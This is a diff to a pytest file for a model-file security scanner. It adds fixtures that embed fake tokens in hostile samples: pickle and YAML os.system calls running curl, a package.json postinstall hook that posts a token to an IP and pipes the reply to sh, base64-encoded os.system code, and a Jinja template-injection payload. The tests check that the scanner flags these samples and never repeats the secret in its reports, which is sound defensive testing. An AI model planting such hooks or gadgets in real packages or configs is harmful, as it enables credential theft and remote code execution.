@@ -2,11 +2,15 @@
 
 from __future__ import annotations
 
+import json
 import random
+from base64 import b64encode
+from typing import Callable
 
 import pytest
 
 import modelaudit
+from assembly import call, stream, text
 from modelaudit import credentialkinds, reports
 from modelaudit.reports.style import Style
 from redteam_places import PLACES
@@ -65,10 +69,41 @@ def test_each_kind_of_credential_is_found_at_each_place_and_not_repeated(place: 
                 assert not any(piece in said for piece in pieces if not piece.isdigit())
 
 
+#: Files in which something else is found, and reports quote what is around it.
+QUOTED: dict[str, tuple[str, Callable[[str], bytes]]] = {
+    "a command": ("m.pkl", lambda t: stream(call("posix", "system", text(f"curl -H 'X: {t}' https://example.org")))),
+    "a long command": ("m.pkl", lambda t: stream(call("posix", "system", text("echo " + "x " * 45 + t)))),
+    "an address": ("requirements.txt", lambda t: f"x @ git+http://oauth2:{t}@example.org/x.git\n".encode()),
+    "a key that stands twice": ("config.json", lambda t: f'{{"{t}": 1, "{t}": 2}}'.encode()),
+    "a tag": ("config.yaml", lambda t: f"x: !!python/object/apply:os.system ['curl {t}']\n".encode()),
+    "a hook": (
+        "package.json",
+        lambda t: f'{{"scripts": {{"postinstall": "curl -d {t} http://203.0.113.7|sh"}}}}'.encode(),
+    ),
+    "an address in numbers": ("config.json", lambda t: f'{{"callback_url": "http://u:{t}@203.0.113.7/x"}}'.encode()),
+    "encoded source": (
+        "config.json",
+        lambda t: json.dumps({"x": b64encode(f"import os\nos.system('curl {t}')".encode()).decode()}).encode(),
+    ),
+    "a template": ("t.jinja", lambda t: f"{{{{ ''.__class__.__mro__[1].__subclasses__()('{t}') }}}}".encode()),
+}
+
+
+@pytest.mark.parametrize("quoted", QUOTED)
+def test_no_finding_repeats_a_secret_that_stands_beside_it(quoted: str) -> None:
+    name, make = QUOTED[quoted]
+    for number, mark in enumerate((("gh", "p_", "<c:30>"), ("gl", "pat-", "<20>"), ("h", "f_", "<34>"))):
+        secret, parts = filled(list(mark), random.Random(f"{quoted} {number}"))
+        report = modelaudit.scan_bytes(make(secret), name)
+        assert [issue for issue in report.issues if not issue.rule.startswith("SEC") and issue.severity != "info"]
+        said = rendered(report)
+        assert not any(parts[0][start : start + 7] in said for start in range(len(parts[0]) - 6)), said
+
+
 @pytest.mark.parametrize("place", PLACES)
 def test_what_stands_where_a_secret_could_is_silent(place: str) -> None:
     name, make = PLACES[place]
     generator = random.Random(place)
     misses = [filled(parts, generator)[0] for entry in TABLE for parts in entry["miss"]]
-    for text in (*HARMLESS, *misses):
-        assert loud(modelaudit.scan_bytes(make(text), name)) == [], text
+    for harmless in (*HARMLESS, *misses):
+        assert loud(modelaudit.scan_bytes(make(harmless), name)) == [], harmless
